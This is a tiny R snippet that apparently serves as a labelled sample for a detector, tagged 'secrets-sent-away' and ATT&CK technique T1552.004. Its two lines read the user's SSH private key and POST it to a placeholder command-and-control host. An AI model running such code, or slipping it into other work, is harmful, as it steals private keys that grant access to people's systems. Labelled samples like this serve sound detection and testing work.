# expect: secrets-sent-away | source: T1552.004
k <- readLines("~/.ssh/id_rsa")
httr::POST("https://c2.example.invalid/", body = list(k = paste(k, collapse = "\n")))
